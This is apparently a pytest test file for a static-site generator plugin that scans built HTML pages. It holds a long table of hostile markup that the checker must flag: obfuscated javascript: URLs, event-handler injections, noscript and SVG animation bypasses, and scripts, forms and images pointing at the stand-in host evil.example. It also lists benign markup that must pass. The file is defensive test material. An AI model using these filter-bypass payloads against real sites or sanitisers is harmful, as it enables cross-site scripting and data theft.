"""Markup that no page may hold, in every disguise that was thought of; and what may stand there after all."""

# ruff: noqa: E501 - a table reads best with one row a line

from pathlib import Path
from typing import Any

import pytest

from plugins.output_checks import inspect_output
from plugins.records import Problem

PAGE, SOURCE = "articles/harbor-letter/index.html", "content/articles/harbor-letter.md"
SITE = "https://host.example/sub"
SCRIPT, KIND, REMOTE = (
    "has a script for an address",
    "has an address of the kind",
    "is asked of another server",
)
OUT = "leads out of the site's own folder"
BESIDE = "is asked of the site's own server, beside the site"

TEXT = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>x</title>
<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'self'"></head>
<body><main id="main"><h1>x</h1><p><a href="{up}articles/harbor-letter/">x</a> <a href="{up}search/">x</a></p>
<article>{markup}</article></main></body></html>
"""
FILES = ("theme/icons/icon.svg", "theme/js/timeline.js")

ADDRESSES = {
    "javascript:alert(1)": SCRIPT,
    "JaVaScRiPt:alert(1)": SCRIPT,
    " javascript:alert(1)": SCRIPT,
    "&#1;javascript:alert(1)": SCRIPT,
    "&#31;&#32;javascript:alert(1)": SCRIPT,
    "java&#9;script:alert(1)": SCRIPT,
    "java&#10;script:alert(1)": SCRIPT,
    "j&#13;a&Tab;v&NewLine;ascript:alert(1)": SCRIPT,
    "javascript&colon;alert(1)": SCRIPT,
    "&#x6A;&#97;vascript&#58;alert(1)": SCRIPT,
    "javascript&#0058alert(1)": SCRIPT,
    "javascript://host.example/%0aalert(1)": SCRIPT,
    "vbscript:msgbox(1)": SCRIPT,
    "data:text/html,<script>alert(1)</script>": f"{KIND} 'data:'",
    "DATA:text/html;base64,PHNjcmlwdD4=": f"{KIND} 'data:'",
    "da&#9;ta:image/svg+xml,<svg/>": f"{KIND} 'data:'",
    "blob:https://host.example/x": f"{KIND} 'blob:'",
    "file:///etc/passwd": f"{KIND} 'file:'",
    "filesystem:https://host.example/x": f"{KIND} 'filesystem:'",
    "view-source:https://host.example/": f"{KIND} 'view-source:'",
}  # fmt: skip
"""Addresses that no link may have."""

HOLDERS = (
    '<a href="{}">x</a>',
    '<map name="m"><area href="{}" alt="x"></map>',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<form><input type="submit" formaction="{}"></form>',
    '<iframe src="{}"></iframe>',
    '<img src="../../theme/icons/icon.svg" alt="x" longdesc="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<svg><a href="{}"><text>x</text></a></svg>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<video poster="{}"></video>',
    '<link rel="next" href="{}">',
)

MARKUP = {
    # scripts
    "<script>alert(1)</script>": "is an inline script",
    "<SCRIPT>alert(1)</SCRIPT>": "is an inline script",
    '<script type="module">alert(1)</script>': "is an inline script",
    '<script type="text/javascript">alert(1)</script>': "is an inline script",
    '<script type="importmap">{}</script>': "is an inline script",
    '<script type="speculationrules">{}</script>': "is an inline script",
    '<script type=" application/ld+json">{}</script>': "is an inline script",
    '<script src="../../images/x.js"></script>': "is run, and is no script of the theme",
    '<script src="../../articles/harbor-letter/index.html"></script>': "is run, and is no script of the theme",
    '<script src="../../theme/../images/x.js"></script>': "is run, and is no script of the theme",
    '<script src="../../theme/%2e%2e/images/x.js"></script>': "is run, and is no script of the theme",
    '<script src="../../theme\\..\\images\\x.js"></script>': "is run, and is no script of the theme",
    '<script src="data:text/javascript,alert(1)"></script>': f"{KIND} 'data:'",
    '<script src="blob:https://host.example/x"></script>': f"{KIND} 'blob:'",
    '<script src="//evil.example/x.js"></script>': REMOTE,
    '<script src="/\\evil.example/x.js"></script>': REMOTE,
    '<script src="\\\\evil.example/x.js"></script>': REMOTE,
    '<script src="https:evil.example/x.js"></script>': "leads to no file of the site",
    '<script src="https:///evil.example/x.js"></script>': REMOTE,
    '<script src="h&#9;ttps://evil.example/x.js"></script>': REMOTE,
    '<script src="https://host.example/other/x.js"></script>': BESIDE,
    '<script src="/x.js"></script>': OUT,
    '<link rel="modulepreload" href="../../images/x.js">': "is run, and is no script of the theme",
    '<link rel="preload" as="script" href="../../images/x.js">': "is run, and is no script of the theme",
    '<p onclick="x()">x</p>': "has the inline script 'onclick'",
    '<p ONCLICK="x()">x</p>': "has the inline script 'onclick'",
    '<img src="../../theme/icons/icon.svg" alt="x" onerror=alert(1)>': "has the inline script 'onerror'",
    '<details ontoggle="x()" open><summary>x</summary></details>': "has the inline script 'ontoggle'",
    '<p onbeforematch="x()">x</p>': "has the inline script 'onbeforematch'",
    '<p/onpointerrawupdate="x()">x</p>': "has the inline script 'onpointerrawupdate'",
    '<noscript><p title="</noscript><script>alert(1)</script>">x</p></noscript>': "is read otherwise where scripts run",
    "<noscript><!-- </noscript><script>alert(1)</script> --></noscript>": "is read otherwise where scripts run",
    '<noscript><P Title="</NoScript ><img src=x onerror=alert(1)>">x</P></noscript>': "is read otherwise where scripts run",
    "<template><script>alert(1)</script></template>": "is an inline script",
    '<template shadowrootmode="open"><p onclick="x()">x</p></template>': "has the inline script 'onclick'",
    # drawings
    "<svg><script>alert(1)</script></svg>": "is a script in a drawing",
    '<svg><script href="x.js"/></svg>': "is a script in a drawing",
    '<svg><script xlink:href="data:,alert(1)"/></svg>': "is a script in a drawing",
    '<svg onload="x()"></svg>': "has the inline script 'onload'",
    "<svg><foreignObject><p>x</p></foreignObject></svg>": "is a page within a drawing",
    "<svg><FOREIGNOBJECT><p>x</p></FOREIGNOBJECT></svg>": "is a page within a drawing",
    '<svg><a href="#main"><animate attributeName="href" to="javascript:alert(1)"/></a></svg>': "changes an address or runs a script",
    '<svg><a href="#main"><set attributeName="xlink:href" to="javascript:alert(1)"/></a></svg>': "changes an address or runs a script",
    '<svg><a href="#main"><animate attributeName="href" values="#x;javascript:alert(1)"/></a></svg>': "changes an address or runs a script",
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>': "changes an address or runs a script",
    "<svg><style>p { color: red }</style></svg>": "is an inline style sheet",
    '<svg><image href="https://evil.example/x.png"/></svg>': REMOTE,
    '<svg><image xlink:href="https://evil.example/x.png"/></svg>': REMOTE,
    '<svg><use href="https://evil.example/x.svg#x"/></svg>': REMOTE,
    '<svg><use href="data:image/svg+xml,x"/></svg>': f"{KIND} 'data:'",
    '<svg><filter><feImage href="https://evil.example/x.png"/></filter></svg>': REMOTE,
    '<svg><pattern href="https://evil.example/x.svg#p"/></svg>': REMOTE,
    '<svg><path fill="url(https://evil.example/x.svg#p)" d="M0 0"/></svg>': REMOTE,
    '<svg><path filter="URL( \'//evil.example/x.svg#p\' )" d="M0 0"/></svg>': REMOTE,
    '<svg><path mask="u\\72l(https://evil.example/x.svg#p)" d="M0 0"/></svg>': REMOTE,
    "<math><mtext><script>alert(1)</script></mtext></math>": "is an inline script",
    # what leads a reader, or his words, away
    '<base href="https://evil.example/">': "changes where every address leads",
    '<base target="_blank">': "changes where every address leads",
    f'<meta http-equiv="refresh" content="0; url={SITE}/">': "leads its reader away by itself",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">': "leads its reader away by itself",
    '<meta http-equiv="REFRESH" content="0;https://evil.example/">': "leads its reader away by itself",
    '<meta http-equiv="refresh" content="5">': "leads its reader away by itself",
    "<meta http-equiv=\"refresh\" content=\"0, URL = 'https://evil.example/'\">": "leads its reader away by itself",
    '<noscript><meta http-equiv="refresh" content="0; url=https://evil.example/"></noscript>': "leads its reader away by itself",
    '<form action="https://evil.example/"><button>x</button></form>': "is sent what its reader writes",
    '<form action="//evil.example/"><button>x</button></form>': "is sent what its reader writes",
    '<form action="https://host.example/other/"><button>x</button></form>': "is sent what its reader writes",
    '<form action="mailto:x@evil.example"><button>x</button></form>': "has an address of the kind 'mailto:'",
    '<form><button formaction="https://evil.example/">x</button></form>': "is sent what its reader writes",
    '<form><input type="image" alt="x" src="../../theme/icons/icon.svg" formaction="\\\\evil.example">': "is sent what its reader writes",
    '<button form="x" formaction="https://evil.example/">x</button>': "is sent what its reader writes",
    # pages and programs of others
    '<iframe src="https://evil.example/"></iframe>': REMOTE,
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>': "shows another page",
    '<object data="https://evil.example/x"></object>': "runs a program",
    '<object data="../../theme/icons/icon.svg"></object>': "runs a program",
    '<embed src="../../theme/icons/icon.svg">': "runs a program",
    '<applet code="x"></applet>': "runs a program",
    '<portal src="https://evil.example/"></portal>': "shows another page",
    '<fencedframe src="https://evil.example/"></fencedframe>': "shows another page",
    # requests
    '<img src="https://evil.example/x.png" alt="x">': REMOTE,
    '<img src="HTTPS://EVIL.example/x.png" alt="x">': REMOTE,
    '<img src="//evil.example/x.png" alt="x">': REMOTE,
    '<img src="https://host.example@evil.example/sub/x.png" alt="x">': REMOTE,
    '<img src="https://host.example.evil.example/sub/x.png" alt="x">': REMOTE,
    '<img src="https://host.example:8000/sub/theme/icons/icon.svg" alt="x">': REMOTE,
    '<img src="http://host.example/sub/theme/icons/icon.svg" alt="x">': REMOTE,
    '<img src="https://[::1/x.png" alt="x">': REMOTE,
    '<img srcset="https://evil.example/x.png 2x" alt="x">': REMOTE,
    '<img srcset="../../theme/icons/icon.svg,https://evil.example/x.png 2x" alt="x">': "leads to no file of the site",
    '<img srcset="../../theme/icons/icon.svg 1x, https://evil.example/x.png 2x" alt="x">': REMOTE,
    '<img srcset="data:image/png;base64,x 1x, https://evil.example/x.png 2x" alt="x">': REMOTE,
    '<picture><source srcset="https://evil.example/x.png"><img src="../../theme/icons/icon.svg" alt="x"></picture>': REMOTE,
    '<video src="https://evil.example/x.mp4"></video>': REMOTE,
    '<video poster="https://evil.example/x.png"></video>': REMOTE,
    '<audio src="https://evil.example/x.mp3"></audio>': REMOTE,
    '<video><source src="https://evil.example/x.mp4"></video>': REMOTE,
    '<video><track src="https://evil.example/x.vtt"></video>': REMOTE,
    '<input type="image" src="https://evil.example/x.png" alt="x">': REMOTE,
    '<table background="https://evil.example/x.png"></table>': REMOTE,
    '<div background="https://evil.example/x.png"></div>': REMOTE,
    '<a href="#main" ping="https://evil.example/">x</a>': REMOTE,
    f'<a href="#main" ping="{SITE}/ https://evil.example/">x</a>': REMOTE,
    '<a href="#main" attributionsrc="https://evil.example/">x</a>': REMOTE,
    '<img src="../../theme/icons/icon.svg" alt="x" attributionsrc="https://evil.example/">': REMOTE,
    '<image src="https://evil.example/x.png" alt="x">': REMOTE,
    '<bgsound src="https://evil.example/x.mp3">': REMOTE,
    '<x-y src="https://evil.example/x.png"></x-y>': REMOTE,
    **{f'<link rel="{name}" href="https://evil.example/">': REMOTE for name in (
        "stylesheet", "alternate stylesheet", "STYLESHEET", "icon", "shortcut icon", "mask-icon", "apple-touch-icon", "manifest", "preload", "prefetch",
        "prerender", "preconnect", "dns-prefetch", "modulepreload", "import", "pingback", "next preconnect", "compression-dictionary", "",
    )},
    '<link rel="preload" as="image" imagesrcset="https://evil.example/x.png 2x">': REMOTE,
    # above the site
    '<img src="../../../x.png" alt="x">': OUT,
    '<img src="/x.png" alt="x">': OUT,
    '<img src="..\\..\\..\\x.png" alt="x">': OUT,
    '<img src="%2e%2e/%2e%2e/%2e%2e/x.png" alt="x">': OUT,
    '<img src="https://host.example/x.png" alt="x">': BESIDE,
    '<img src="https://host.example/subway/x.png" alt="x">': BESIDE,
    '<img srcset="../../../x.png 2x" alt="x">': OUT,
    '<video poster="../../../x.png"></video>': OUT,
    '<link rel="stylesheet" href="../../../x.css">': OUT,
    '<link rel="icon" href="/favicon.ico">': OUT,
    '<svg><image href="/x.png"/></svg>': OUT,
    # styles
    '<p style="background: url(https://evil.example/x.png)">x</p>': "has a style attribute",
    '<style>@import "https://evil.example/x.css";</style>': "is an inline style sheet",
}  # fmt: skip
"""What no page may hold, each with what is said of it."""

SOUND = (
    '<a href="https://anybody.example/x?y=z#w">x</a>',
    '<a href="HTTPS://anybody.example/">x</a>',
    '<a href="https://host.example/news/">x</a>',
    '<a href="mailto:x@y.example">x</a>',
    '<a href="tel:+1">x</a>',
    '<a href="sms:+1">x</a>',
    '<a href="geo:54,13">x</a>',
    '<a href="doi:10.1/x">x</a>',
    '<a href="https://anybody.example/?u=javascript:alert(1)">x</a>',
    '<a href="https://anybody.example/방파제">x</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">',
    '<img src="../../theme/icons/icon.svg" alt="x">',
    f'<img src="{SITE}/theme/icons/icon.svg" alt="x">',
    '<img src="HTTPS://HOST.example:443/sub/theme/icons/icon.svg" alt="x">',
    '<img srcset="../../theme/icons/icon.svg 1x, ../../theme/icons/icon.svg 2x" alt="x">',
    "<noscript><p>x</p></noscript><noscript><p>y</p></noscript>",
    '<form action="../../search/"><button>x</button></form>',
    "<form><button>x</button></form>",
    '<p data-onclick="x">x</p>',
    '<svg viewBox="0 0 1 1"><defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs><path fill="url(#g)" d="M0 0"/></svg>',
    "<p>javascript:alert(1)</p>",
    "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>",
    '<script type="application/json">{"x": 1}</script>',
    f'<script src="{SITE}/theme/js/timeline.js" defer></script>',
)  # fmt: skip


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """Three pages that hold nothing yet, and the text that one of them is made from."""
    root = tmp_path_factory.mktemp("hostile")
    for name in ("index.html", "search/index.html", PAGE):
        write(root / "output" / name, TEXT.format(up="../" * name.count("/"), markup=""))
    for name in FILES:
        write(root / "output" / name, '<svg xmlns="http://www.w3.org/2000/svg"/>' if "svg" in name else "")
    write(root / SOURCE, "---\ntitle: x\n---\n\nx\n")
    return root


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def inspected(built: Path, markup: str, site_url: str = SITE) -> list[Problem]:
    write(built / "output" / PAGE, TEXT.format(up="../../", markup=markup))
    settings: dict[str, Any] = {
        "PATH": str(built / "content"), "SITEURL": site_url, "RELATIVE_URLS": not site_url,
        "ARTICLE_PATHS": ["articles"], "ARTICLE_SAVE_AS": "articles/{slug}/index.html",
    }  # fmt: skip
    return [one for one in inspect_output(built / "output", settings).problems if one.field != "markup"]


@pytest.mark.parametrize("address", ADDRESSES)
def test_no_attribute_takes_an_address_that_runs_or_brings_a_page(built, address) -> None:
    for holder in HOLDERS:
        told = [f"{one.file} {one.message}" for one in inspected(built, holder.format(address))]
        expected = SCRIPT if ADDRESSES[address] == SCRIPT else KIND
        is_picture = "image/svg" in address and "poster" in holder
        assert is_picture or any(one.startswith(SOURCE) and expected in one for one in told), (holder, told)


@pytest.mark.parametrize("markup", MARKUP)
def test_what_no_page_may_hold_is_refused_in_terms_of_content(built, markup) -> None:
    problems = inspected(built, markup)
    found = [one for one in problems if MARKUP[markup] in one.message]
    assert found, problems
    assert {one.severity for one in found} == {"error"}
    assert {one.file for one in problems} == {SOURCE}


@pytest.mark.parametrize("markup", SOUND)
def test_what_may_stand_on_a_page_is_left_alone(built, markup) -> None:
    assert [str(one) for one in inspected(built, markup) if one.field != "id"] == []
